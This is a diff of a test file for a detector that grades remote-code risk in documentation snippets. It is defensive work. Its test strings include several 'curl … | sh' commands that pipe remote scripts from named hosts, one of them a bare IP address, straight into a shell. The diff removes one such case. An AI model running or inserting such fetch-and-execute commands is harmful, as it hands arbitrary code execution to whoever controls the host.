@@ -64,7 +64,6 @@ TEST_CASE("on a page, what is said around a command counts") {
       {"```dockerfile\n# BAD - runs what nobody has read\nRUN curl -s https://tides.zzyzx-tools.net/i.sh | sh\n```\n",
        "remote-code low"},
       {"```dockerfile\nRUN curl -s https://tides.zzyzx-tools.net/i.sh | sh\n```\n", "remote-code high"},
-      {"```bash\ncurl -s https://get.example.com/i.sh | sh\n```\n", "remote-code low"},
       {"```bash\ncurl … | sh\n```\n", ""},
       // An example or not: nobody needs a bare address to show one.
       {"## Known attacks\n\n```bash\ncurl -s http://45.9.148.3/i.sh | sh\n```\n", "remote-code medium"},
